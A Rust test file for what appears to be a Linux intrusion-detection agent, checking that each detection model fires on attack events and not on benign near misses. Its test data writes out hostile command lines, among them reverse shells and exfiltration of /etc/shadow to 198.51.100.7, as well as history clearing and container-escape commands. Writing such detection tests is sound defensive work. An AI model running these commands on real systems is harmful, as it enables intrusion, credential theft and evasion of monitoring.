//! Each shipped model on events: what it is for fires it, once; what looks like it and is not
//! fires nothing at all.

use std::collections::BTreeMap;
use std::path::Path;

use holdfast_agent::config;
use holdfast_agent::detect::Models;
use holdfast_common::event::{
    Activity, ActivityEvent, EventBody, ExecEvent, FileEvent, NetworkEvent,
};
use holdfast_common::process::{ProcessInfo, ProcessKey};
use uuid::Uuid;

struct Who {
    process: ProcessInfo,
    parents: Vec<ProcessInfo>,
}

fn info(pid: u32, exe: &str, line: &str) -> ProcessInfo {
    ProcessInfo {
        key: ProcessKey { pid, start_ns: 10_000_000 },
        exe: exe.to_owned(),
        comm: exe.rsplit('/').next().unwrap_or_default().to_owned(),
        args: line.split(' ').map(str::to_owned).collect(),
        user: "root".to_owned(),
        tty: "pts/0".to_owned(),
        ..ProcessInfo::default()
    }
}

/// A program below a shell.
fn by(exe: &str, line: &str) -> Who {
    Who { process: info(100, exe, line), parents: vec![info(50, "/usr/bin/bash", "-bash")] }
}

impl Who {
    fn below(mut self, exe: &str, line: &str) -> Self {
        self.parents.insert(0, info(60, exe, line));
        self
    }

    fn with(mut self, change: impl Fn(&mut ProcessInfo)) -> Self {
        change(&mut self.process);
        self
    }

    fn exec(self) -> EventBody {
        let Self { process, parents } = self;
        EventBody::Exec(Box::new(ExecEvent { process, parents, count: 1 }))
    }

    fn file(self, action: &str, class: &str, path: &str) -> EventBody {
        let Self { process, parents } = self;
        EventBody::File(Box::new(FileEvent {
            process,
            parents,
            action: action.to_owned(),
            path: path.to_owned(),
            from: None,
            class: class.to_owned(),
            mode: None,
            set_id: false,
            count: 1,
        }))
    }

    fn does(self, activity: Activity) -> EventBody {
        let Self { process, parents } = self;
        EventBody::Activity(Box::new(ActivityEvent { process, parents, activity, count: 1 }))
    }

    fn network(self, action: &str, address: &str, name: &str) -> EventBody {
        let Self { process, parents } = self;
        EventBody::Network(Box::new(NetworkEvent {
            process,
            parents,
            action: action.to_owned(),
            protocol: "tcp".to_owned(),
            local_address: "192.0.2.1".to_owned(),
            local_port: 40_000,
            remote_address: address.to_owned(),
            remote_port: 443,
            dns_name: name.to_owned(),
            dns_type: "A".to_owned(),
            dns_answers: Vec::new(),
            count: 1,
        }))
    }
}

fn target(exe: &str) -> Box<ProcessInfo> {
    Box::new(info(7, exe, exe))
}

fn ptrace(request: &str, exe: &str) -> Activity {
    Activity::Ptrace { request: request.to_owned(), target: target(exe) }
}

fn bpf(kind: &str) -> Activity {
    Activity::BpfLoad { program_type: kind.to_owned(), name: "x".to_owned() }
}

fn module(tainted: bool) -> Activity {
    Activity::ModuleLoad { name: "x".to_owned(), tainted }
}

fn setns() -> Activity {
    Activity::Namespaces { call: "setns".to_owned(), namespaces: vec!["mnt".to_owned()] }
}

fn set_id(event: EventBody) -> EventBody {
    match event {
        EventBody::File(mut file) => {
            file.set_id = true;
            EventBody::File(file)
        }
        other => other,
    }
}

/// Each element is a sequence that is seen by a fresh set of models.
struct Row {
    title: &'static str,
    hits: Vec<Vec<EventBody>>,
    misses: Vec<Vec<EventBody>>,
}

fn row(title: &'static str, hits: Vec<Vec<EventBody>>, misses: Vec<Vec<EventBody>>) -> Row {
    Row { title, hits, misses }
}

fn each(events: Vec<EventBody>) -> Vec<Vec<EventBody>> {
    events.into_iter().map(|event| vec![event]).collect()
}

const CONTAINER: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn contained(exe: &str) -> Who {
    by(exe, exe).with(|process| process.container = Some(CONTAINER.to_owned()))
}

fn credentials() -> Vec<Row> {
    let shadow = |who: Who| who.file("read", "credentials", "/etc/shadow");
    let attach = |exe: &str, whom: &str| by(exe, exe).does(ptrace("attach", whom));
    vec![
        row(
            "/etc/passwd and /etc/shadow",
            each(vec![
                shadow(by("/usr/bin/cat", "cat /etc/shadow")),
                shadow(by("/tmp/sshd", "sshd")),
                shadow(by("/usr/bin/unshadow", "unshadow /etc/passwd /etc/shadow")),
                by("/usr/bin/cp", "cp x y").file("read", "credentials", "/etc/shadow-"),
            ]),
            each(vec![
                shadow(by("/usr/sbin/sshd", "sshd: user [priv]")),
                shadow(by("/usr/bin/sudo", "sudo id")),
                shadow(by("/usr/sbin/unix_chkpwd", "unix_chkpwd root")),
                shadow(by("/usr/sbin/cron", "/usr/sbin/CRON -f")),
                shadow(by("/usr/bin/restic", "restic backup /etc")),
                shadow(
                    by("/usr/bin/cp", "cp -p /etc/shadow /var/backups")
                        .below("/usr/bin/dash", "/bin/sh /etc/cron.daily/passwd")
                        .below_cron(),
                ),
                shadow(by("/usr/bin/grep", "grep x /etc/shadow").below("/usr/bin/dpkg", "dpkg")),
                by("/usr/bin/id", "id").file("read", "credentials", "/etc/passwd"),
                by("/usr/bin/cat", "cat").file("write", "credentials", "/etc/shadow"),
            ]),
        ),
        row(
            "Proc Filesystem",
            each(vec![
                by("/usr/bin/dd", "dd if=/x /proc/812/mem of=/tmp/x").exec(),
                by("/usr/bin/strings", "strings /proc/812/environ").exec(),
                by("/usr/bin/gcore", "gcore 812").exec(),
                attach("/tmp/x", "/usr/sbin/sshd"),
                attach("/usr/bin/gdb", "/usr/bin/ssh-agent"),
            ]),
            each(vec![
                by("/usr/bin/cat", "cat /proc/cpuinfo").exec(),
                by("/usr/bin/cat", "cat /proc/812/status").exec(),
                by("/usr/bin/ps", "ps aux").exec(),
                by("/usr/bin/gdb", "gdb ./program").exec(),
                attach("/usr/bin/strace", "/usr/bin/ls"),
            ]),
        ),
    ]
}

impl Who {
    fn below_cron(mut self) -> Self {
        self.parents.push(info(3, "/usr/sbin/cron", "/usr/sbin/cron -f"));
        self
    }
}

fn shells() -> Vec<Row> {
    let connect = |who: Who| who.network("connect", "198.51.100.7", "");
    let quiet = |pid: u32, parent: u32| {
        let who = Who {
            process: info(pid, "/usr/bin/dash", "/bin/sh -i").clone(),
            parents: vec![info(parent, "/usr/bin/python3.13", "python3 x.py")],
        };
        who.with(|process| process.tty = String::new()).exec()
    };
    let python = |pid: u32| Who {
        process: info(pid, "/usr/bin/python3.13", "python3 x.py"),
        parents: Vec::new(),
    };
    vec![
        row(
            "Unix Shell",
            vec![
                vec![connect(by("/usr/bin/bash", "bash -i"))],
                vec![by("/usr/bin/bash", "bash -c exec 5<>/dev/tcp/198.51.100.7/443").exec()],
                vec![by("/usr/bin/nc.traditional", "nc -e /bin/sh 198.51.100.7 4444").exec()],
                vec![by("/usr/bin/ncat", "ncat --sh-exec bash 198.51.100.7 1").exec()],
                vec![by("/tmp/s", "s exec:bash,pty tcp:198.51.100.7:1").exec()],
                vec![connect(python(200)), quiet(201, 200)],
                vec![connect(python(300)), quiet(300, 2)],
            ],
            vec![
                vec![by("/usr/bin/bash", "bash -c echo hello").exec()],
                vec![by("/usr/bin/bash", "bash").network("connect", "127.0.0.1", "")],
                vec![by("/usr/bin/nc.openbsd", "nc -z 198.51.100.7 22").exec()],
                vec![by("/usr/bin/ssh", "ssh host").network("connect", "198.51.100.7", "")],
                // A shell without a terminal, of somebody who connected nowhere.
                vec![quiet(201, 200)],
                vec![connect(python(200)), quiet(401, 400)],
                // First the shell, then the connection.
                vec![quiet(201, 200), connect(python(200))],
                // What connected runs a command.
                vec![
                    connect(python(200)),
                    by("/usr/bin/dash", "sh -c ls")
                        .below_pid(200)
                        .with(|process| process.tty = String::new())
                        .exec(),
                ],
                // A terminal emulator that has a connection.
                vec![connect(python(200)), by("/usr/bin/bash", "bash").below_pid(200).exec()],
            ],
        ),
        row(
            "Web Shell",
            each(vec![
                by("/usr/bin/id", "id").below("/usr/sbin/apache2", "apache2 -k start").exec(),
                by("/usr/bin/dash", "sh -c cat /etc/passwd")
                    .below("/usr/sbin/php-fpm8.4", "x")
                    .exec(),
                by("/usr/bin/dash", "sh -c whoami 2>&1").below("/usr/sbin/nginx", "nginx").exec(),
                by("/usr/bin/bash", "bash -i").below("/opt/java/bin/java", "java catalina").exec(),
                by("/usr/sbin/php-fpm8.4", "php-fpm: pool www").file(
                    "create",
                    "web_root",
                    "/var/www/html/uploads/x.php",
                ),
            ]),
            each(vec![
                by("/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i")
                    .below("/usr/sbin/php-fpm8.4", "x")
                    .exec(),
                by("/usr/bin/id", "id").exec(),
                by("/usr/bin/dash", "sh -c /usr/bin/rotatelogs /x")
                    .below("/usr/sbin/apache2", "x")
                    .exec(),
                by("/usr/bin/java", "java -jar x")
                    .below("/opt/java/bin/java", "java catalina")
                    .exec(),
                by("/usr/sbin/php-fpm8.4", "x").file(
                    "write",
                    "web_root",
                    "/var/www/html/wp-admin/index.php",
                ),
                by("/usr/sbin/php-fpm8.4", "x").file(
                    "create",
                    "web_root",
                    "/var/www/html/uploads/x.jpg",
                ),
                by("/usr/bin/git", "git pull").file(
                    "write",
                    "web_root",
                    "/var/www/html/uploads/x.php",
                ),
            ]),
        ),
    ]
}

impl Who {
    fn below_pid(mut self, pid: u32) -> Self {
        self.parents.insert(0, info(pid, "/usr/bin/python3.13", "python3 x.py"));
        self
    }
}

fn persistence() -> Vec<Row> {
    let written = |title, class: &'static str, path: &'static str, odd: Vec<Vec<EventBody>>| {
        let mut misses = each(vec![
            by("/usr/bin/dpkg", "dpkg --unpack").file("create", class, path),
            by("/usr/bin/perl", "perl").below("/usr/bin/dpkg", "dpkg").file("write", class, path),
            by("/usr/bin/rpm", "rpm -U").file("rename", class, path),
            by("/usr/bin/cat", "cat").file("read", class, path),
            by("/usr/bin/vim", "vim").file("write", "watched", "/srv/other"),
        ]);
        misses.extend(odd);
        let hits = each(vec![
            by("/usr/bin/vim", "vim").file("write", class, path),
            by("/tmp/dpkg", "dpkg").file("create", class, path),
            by("/usr/bin/mv", "mv").file("rename", class, path),
        ]);
        row(title, hits, misses)
    };
    let preload = |value: &'static str| {
        by("/usr/bin/ls", "ls")
            .with(|process| {
                process.environment = BTreeMap::from([("LD_PRELOAD".to_owned(), value.to_owned())]);
            })
            .exec()
    };
    let mut linker = written("Dynamic Linker Hijacking", "preload", "/etc/ld.so.preload", vec![]);
    linker.hits.push(vec![preload("/tmp/x.so")]);
    linker.misses.push(vec![preload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")]);
    vec![
        written(
            "Cron",
            "cron",
            "/etc/cron.d/x",
            each(vec![by("/usr/sbin/anacron", "anacron").file(
                "write",
                "cron",
                "/var/spool/cron/x",
            )]),
        ),
        written(
            "Systemd Service",
            "systemd",
            "/etc/systemd/system/x.service",
            each(vec![
                by("/usr/lib/systemd/systemd", "systemd").file(
                    "create",
                    "systemd",
                    "/run/systemd/system/x.service",
                ),
                by("/usr/bin/systemctl", "systemctl enable x").file(
                    "create",
                    "systemd",
                    "/etc/systemd/system/multi-user.target.wants/x.service",
                ),
            ]),
        ),
        written(
            "SSH Authorized Keys",
            "ssh_keys",
            "/root/.ssh/authorized_keys",
            each(vec![by("/usr/bin/vim", "vim").file("write", "ssh_keys", "/etc/ssh/sshd_config")]),
        ),
        written(
            "Unix Shell Configuration Modification",
            "shell_profile",
            "/root/.bashrc",
            each(vec![by("/usr/sbin/useradd", "useradd -m x").file(
                "create",
                "shell_profile",
                "/home/x/.bashrc",
            )]),
        ),
        linker,
    ]
}

fn kernel() -> Vec<Row> {
    vec![
        row(
            "Kernel Modules and Extensions",
            each(vec![
                by("/usr/bin/kmod", "insmod /tmp/rk.ko").exec(),
                by("/usr/bin/kmod", "insmod ./rk.ko").exec(),
                by("/usr/bin/x", "x").does(module(true)),
            ]),
            each(vec![
                by("/usr/bin/kmod", "modprobe overlay").exec(),
                by("/usr/bin/kmod", "insmod /lib/modules/6.12/kernel/x.ko").exec(),
                by("/usr/bin/kmod", "modinfo /tmp/x.ko").exec(),
                by("/usr/bin/kmod", "modprobe x").does(module(false)),
                by("/usr/bin/kmod", "modprobe x").below("/usr/bin/dpkg", "dpkg").does(module(true)),
            ]),
        ),
        row(
            "Rootkit",
            each(vec![
                by("/tmp/x", "x").does(bpf("kprobe")),
                by("/tmp/holdfastd", "holdfastd").does(bpf("lsm")),
            ]),
            each(vec![
                by("/usr/bin/holdfastd", "holdfastd").does(bpf("lsm")),
                by("/usr/lib/systemd/systemd", "systemd").does(bpf("lsm")),
                by("/usr/sbin/tc", "tc filter add").does(bpf("sched_cls")),
            ]),
        ),
        row(
            "Reflective Code Loading",
            each(vec![
                by("/memfd:x (deleted)", "x").exec(),
                by("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init").exec(),
            ]),
            each(vec![
                by("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init")
                    .below("/usr/bin/containerd-shim-runc-v2", "shim")
                    .exec(),
                by("/usr/bin/true", "true").exec(),
                by("/tmp/memfd:x", "x").exec(),
            ]),
        ),
        row(
            "Ptrace System Calls",
            each(vec![
                by("/tmp/x", "x").does(Activity::MemoryWrite { target: target("/usr/sbin/nginx") }),
                by("/tmp/x", "x").does(ptrace("poke", "/usr/sbin/nginx")),
            ]),
            each(vec![
                by("/usr/bin/gdb", "gdb").does(ptrace("poke", "/root/a.out")),
                by("/usr/bin/strace", "strace").does(ptrace("seize", "/usr/bin/ls")),
                by("/tmp/x", "x").does(ptrace("traceme", "/tmp/x")),
            ]),
        ),
        row(
            "Setuid and Setgid",
            each(vec![
                by("/tmp/x", "x").with(|process| process.uid = 1000).exec(),
                by("/usr/bin/bash", "bash -p").with(|process| process.uid = 1000).exec(),
                by("/usr/local/bin/python3.13", "python3")
                    .with(|process| process.uid = 1000)
                    .exec(),
                set_id(by("/usr/bin/chmod", "chmod u+s x").file(
                    "attributes",
                    "web_root",
                    "/var/www/x",
                )),
            ]),
            each(vec![
                by("/usr/bin/sudo", "sudo id").with(|process| process.uid = 1000).exec(),
                by("/usr/bin/passwd", "passwd").with(|process| process.uid = 1000).exec(),
                by("/usr/bin/bash", "bash").exec(),
                by("/tmp/x", "x")
                    .with(|process| {
                        process.uid = 1000;
                        process.euid = 1000;
                    })
                    .exec(),
                set_id(by("/usr/bin/dpkg", "dpkg").file("create", "watched", "/usr/bin/sudo")),
                by("/usr/bin/chmod", "chmod 755 x").file("attributes", "web_root", "/var/www/x"),
            ]),
        ),
    ]
}

fn traces() -> Vec<Row> {
    let log = |who: Who, action: &str, path: &str| who.file(action, "logs", path);
    let signal = |who: Who, signal| {
        who.does(Activity::Signal { signal, target: target("/usr/bin/holdfastd") })
    };
    let history = |value: &'static str| {
        by("/usr/bin/bash", "bash")
            .with(|process| {
                process.environment = BTreeMap::from([("HISTFILE".to_owned(), value.to_owned())]);
            })
            .exec()
    };
    vec![
        row(
            "Clear Linux or Mac System Logs",
            each(vec![
                log(by("/usr/bin/rm", "rm"), "delete", "/var/log/nginx/access.log"),
                log(by("/tmp/x", "x"), "write", "/var/log/auth.log"),
                log(by("/usr/bin/bash", "bash"), "write", "/var/log/wtmp"),
                log(by("/usr/bin/shred", "shred"), "delete", "/var/log/syslog"),
            ]),
            each(vec![
                log(by("/usr/sbin/logrotate", "logrotate"), "delete", "/var/log/syslog.7.gz"),
                log(by("/usr/sbin/logrotate", "logrotate"), "rename", "/var/log/syslog"),
                log(
                    by("/usr/bin/rm", "rm").below("/usr/sbin/logrotate", "x"),
                    "delete",
                    "/var/log/x",
                ),
                log(by("/usr/lib/systemd/systemd-journald", "x"), "delete", "/var/log/journal/x/y"),
                log(by("/usr/sbin/nginx", "nginx"), "write", "/var/log/nginx/access.log"),
                log(by("/usr/bin/apt-get", "apt-get"), "write", "/var/log/dpkg.log"),
                log(by("/usr/bin/rm", "rm"), "delete", "/root/.bash_history_x"),
            ]),
        ),
        row(
            "Clear Command History",
            each(vec![
                by("/usr/bin/bash", "bash -c unset HISTFILE; x").exec(),
                by("/usr/bin/shred", "shred -u /root/.bash_history").exec(),
                by("/usr/bin/ln", "ln -sf /dev/null /root/.zsh_history").exec(),
                history("/dev/null"),
                history(""),
                log(by("/tmp/x", "x"), "delete", "/root/.bash_history"),
            ]),
            each(vec![
                by("/usr/bin/cat", "cat /root/.bash_history").exec(),
                by("/usr/bin/grep", "grep history notes").exec(),
                history("/root/.history"),
                log(by("/usr/bin/bash", "-bash"), "write", "/root/.bash_history"),
            ]),
        ),
        row(
            "Disable or Modify Tools",
            each(vec![
                by("/usr/bin/systemctl", "systemctl stop holdfast").exec(),
                by("/usr/bin/systemctl", "systemctl disable --now auditd.service").exec(),
                by("/usr/sbin/setenforce", "setenforce 0").exec(),
                by("/usr/sbin/auditctl", "auditctl -D").exec(),
                signal(by("/usr/bin/kill", "kill -9 1"), 9),
                signal(by("/usr/bin/bash", "bash"), 19),
                by("/usr/bin/rm", "rm").file("delete", "agent", "/etc/holdfast/holdfast.toml"),
            ]),
            each(vec![
                by("/usr/bin/systemctl", "systemctl status holdfast").exec(),
                by("/usr/bin/systemctl", "systemctl stop nginx").exec(),
                by("/usr/bin/systemctl", "systemctl stop holdfast")
                    .below("/usr/bin/dpkg", "x")
                    .exec(),
                by("/usr/sbin/auditctl", "auditctl -l").exec(),
                signal(by("/usr/lib/systemd/systemd", "systemd"), 15),
                signal(by("/usr/bin/kill", "kill -HUP 1"), 1),
                by("/usr/bin/holdfastd", "x").file(
                    "write",
                    "agent",
                    "/var/lib/holdfast/journal.db",
                ),
            ]),
        ),
    ]
}

fn impact() -> Vec<Row> {
    let tool = |number: u32, parent: u32| {
        let names = ["id", "whoami", "uname", "hostname", "ps", "df", "mount", "ss", "w", "last"];
        let name = names[number as usize % names.len()];
        Who {
            process: info(500 + number, &format!("/usr/bin/{name}"), name),
            parents: vec![info(parent, "/usr/bin/bash", "-bash")],
        }
    };
    vec![
        row(
            "Resource Hijacking",
            each(vec![
                by("/tmp/x", "x -o stratum+tcp://198.51.100.7:3333").exec(),
                by("/tmp/kworker", "kworker --donate-level=1").exec(),
                by("/tmp/x", "x").network("dns_question", "", "xmr.2miners.com"),
            ]),
            each(vec![
                by("/usr/sbin/chronyd", "chronyd local stratum 10").exec(),
                by("/usr/bin/curl", "curl https://example.org").network(
                    "dns_question",
                    "",
                    "example.org",
                ),
            ]),
        ),
        row(
            "System Information Discovery",
            vec![(0..7).map(|number| tool(number, 50).exec()).collect()],
            vec![
                (0..6).map(|number| tool(number, 50).exec()).collect(),
                // One tool, many times.
                (0..30).map(|number| tool(number * 10, 50).exec()).collect(),
                // Each below a parent of its own.
                (0..20).map(|number| tool(number, 1000 + number).exec()).collect(),
                (0..10)
                    .map(|number| tool(number, 50).below("/usr/bin/facter", "facter").exec())
                    .collect(),
            ],
        ),
        row(
            "Exfiltration Over Alternative Protocol",
            each(vec![
                by("/usr/bin/curl", "curl -T /root/x.tar http://198.51.100.7/").exec(),
                by("/usr/bin/curl", "curl -F file=@/etc/passwd http://198.51.100.7/").exec(),
                by("/usr/bin/wget", "wget --post-file=/etc/shadow http://198.51.100.7/").exec(),
                by("/usr/bin/dash", "sh -c tar cz /root | nc 198.51.100.7 1").exec(),
                by("/usr/bin/curl", "curl --upload-file x https://transfer.sh/x").exec(),
            ]),
            each(vec![
                by("/usr/bin/curl", "curl -O https://example.org/x.tar").exec(),
                by("/usr/bin/curl", "curl -d {\"a\":1} https://example.org/api").exec(),
                by("/usr/bin/curl", "curl -d @request.json https://example.org/api").exec(),
                by("/usr/bin/wget", "wget https://example.org/x").exec(),
                by("/usr/bin/rsync", "rsync -a /srv /backup").exec(),
                by("/usr/bin/tar", "tar czf /srv/x.tgz /etc").exec(),
            ]),
        ),
        row(
            "Escape to Host",
            each(vec![
                by("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p bash").exec(),
                by("/usr/bin/nsenter", "nsenter --target=1 --all").exec(),
                by("/usr/bin/docker", "docker run -v /:/host alpine chroot /host").exec(),
                contained("/tmp/x").does(setns()),
                contained("/tmp/x").does(module(false)),
            ]),
            each(vec![
                by("/usr/bin/nsenter", "nsenter -t 4711 -n ss").exec(),
                by("/usr/bin/nsenter", "nsenter -t 12 -m").exec(),
                by("/usr/bin/docker", "docker run -v /srv:/srv alpine").exec(),
                contained("/usr/bin/runc").does(setns()),
                by("/usr/bin/ip", "ip netns exec x ping").does(setns()),
            ]),
        ),
        row(
            "Data Encrypted for Impact",
            each(vec![
                by("/tmp/x", "x").file("mass_rewrite", "watched", "/srv"),
                by("/usr/bin/openssl", "openssl enc").file("mass_rewrite", "watched", "/home/u"),
                by("/tmp/rsync", "rsync").file("mass_rewrite", "watched", "/srv"),
            ]),
            each(vec![
                by("/usr/bin/rsync", "rsync -a").file("mass_rewrite", "watched", "/srv"),
                by("/usr/bin/git", "git checkout").file("mass_rewrite", "watched", "/srv"),
                by("/usr/bin/sed", "sed -i").below("/usr/bin/dpkg", "x").file(
                    "mass_rewrite",
                    "watched",
                    "/srv",
                ),
                by("/usr/lib/postgresql/17/bin/postgres", "postgres").file(
                    "mass_rewrite",
                    "watched",
                    "/srv",
                ),
                by("/tmp/x", "x").file("write", "watched", "/srv/x"),
            ]),
        ),
    ]
}

fn rows() -> Vec<Row> {
    [credentials(), shells(), persistence(), kernel(), traces(), impact()]
        .into_iter()
        .flatten()
        .collect()
}

fn fired(events: &[EventBody]) -> Vec<String> {
    let folder = tempfile::tempdir().expect("folder");
    let models = Models::load(folder.path(), &config::Models::default()).expect("models");
    let mut titles = Vec::new();
    for event in events {
        for detection in models.evaluate(Uuid::now_v7(), event) {
            assert!(!detection.events.is_empty() && !detection.evidence.is_empty());
            titles.push(detection.title);
        }
    }
    titles
}

#[test]
fn every_model_fires_for_what_it_is_for() {
    let mut wrong = Vec::new();
    for row in rows() {
        for events in &row.hits {
            let titles = fired(events);
            if titles.iter().filter(|title| *title == row.title).count() != 1 {
                wrong.push(format!("{}: {titles:?} for {:?}", row.title, events.last()));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn no_model_fires_for_a_near_miss() {
    let mut wrong = Vec::new();
    for row in rows() {
        for events in &row.misses {
            let titles = fired(events);
            if titles.iter().any(|title| title == row.title) {
                wrong.push(format!("{}: {:?}", row.title, events.last()));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn every_shipped_model_is_in_the_table_and_is_called_as_attack_calls_it() {
    let folder = tempfile::tempdir().expect("folder");
    let models = Models::load(folder.path(), &config::Models::default()).expect("models");
    assert_eq!(models.refused(), []);
    let rows = rows();
    let shared =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/attack/techniques.csv");
    let techniques = std::fs::read_to_string(shared).unwrap_or_default();
    for model in models.list() {
        assert!(model.can_fire, "{model:?}");
        if model.title == holdfast_agent::prove::MODEL {
            // No technique of anybody's: the agent's own sign of life.
            continue;
        }
        // This one has tests of its own, in the crate.
        let tested = model.title == "Network Sniffing";
        assert!(tested || rows.iter().any(|row| row.title == model.title), "{}", model.title);
        for technique in model.attack.iter().filter(|_| !techniques.is_empty()) {
            assert!(techniques.lines().any(|line| line.starts_with(&format!("{technique},"))));
        }
        let called = format!("{},{},", model.attack[0], model.title);
        assert!(techniques.is_empty() || techniques.contains(&called), "{called}");
    }
    if techniques.is_empty() {
        println!("names are not compared: no shared data");
    }
}
